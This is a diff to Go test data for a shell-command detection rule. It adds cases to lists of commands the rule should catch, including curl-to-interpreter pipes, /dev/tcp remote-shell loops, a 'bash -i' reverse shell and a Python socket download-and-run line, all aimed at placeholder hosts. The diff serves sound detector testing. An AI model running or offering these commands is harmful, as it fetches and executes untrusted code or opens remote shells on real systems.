@@ -18,7 +18,7 @@ var run = []rules.Rule{
 			"read -r x < <(curl u); eval \"$x\"", "curl u | while read -r l; do eval \"$l\"; done", "read x <<< $(curl u); sh -c \"$x\"",
 			"mapfile -t a < <(curl u); eval \"${a[@]}\"", "printf -v x '%s' \"$(curl u)\"; eval \"$x\"",
 			"curl u | python3", "curl u | python3 -", "curl u | perl", "curl u | ruby", "curl u | node", "curl u | env bash",
-			"curl u | gunzip | sh", "$(curl u)", "bash < /dev/tcp/h/80", "read -r l < /dev/tcp/h/1; eval \"$l\"", "exec 5<>/dev/tcp/h/1; while read -r l <&5; do $l; done",
+			"curl u | gunzip | sh", "$(curl u)", "bash < /dev/tcp/h/80", "read -r l < /dev/tcp/h/1; eval \"$l\"", "exec 5<>/dev/tcp/h/1; while read -r l <&5; do $l; done", "if x; then exec 5<>/dev/tcp/h/1; fi; bash <&5", "command exec 0<>/dev/tcp/h/1; bash",
 			"exec 5<>/dev/tcp/h/1; x=$(head -n 1 <&5); eval \"$x\"", "exec 5<>/dev/tcp/h/1; read -r -u 5 l; bash -c \"$l\"", "exec {d}<>/dev/tcp/h/1; mapfile -t a <&$d; eval \"${a[0]}\"", "bash -i >& /dev/tcp/h/80 0>&1", "sh -c \"$(curl -fsSL u)\"",
 		},
 		Misses: []string{
@@ -35,6 +35,7 @@ var run = []rules.Rule{
 			"curl -o x u; bash x", "curl u > x.sh && sh ./x.sh", "wget http://h/i.sh && bash i.sh", "curl -O http://h/i.py; python3 i.py",
 			"curl u | tee x | wc; chmod +x x; ./x", "wget -qO /tmp/x u; source /tmp/x", "curl u > x; cat x | sh", `curl u > x; eval "$(cat x)"`,
 			"curl u > x; mv x y; sh y", "curl -o x u; cp x bin/; bin/x", "curl u > x; base64 -d x > y; sh y", "scp h:d/x.sh .; sh x.sh",
+			`python3 -c "import socket, subprocess; s = socket.create_connection(('h', 1)); subprocess.run(['tee', 'x'], stdin=s)"; sh x`,
 			"cd /tmp && wget http://h/x && sh /tmp/x", "curl -o x.sh u; sh ./x*", `curl -o x.sh u; for f in *.sh; do sh "$f"; done`, "wget http://h/i.sh; find . -name i.sh -exec sh {} \\;",
 		},
 		Misses: []string{"curl -o x u; cat x", "bash x; curl -o x u", "curl -o x u; bash y", "curl -o x.tgz u && tar xf x.tgz"},
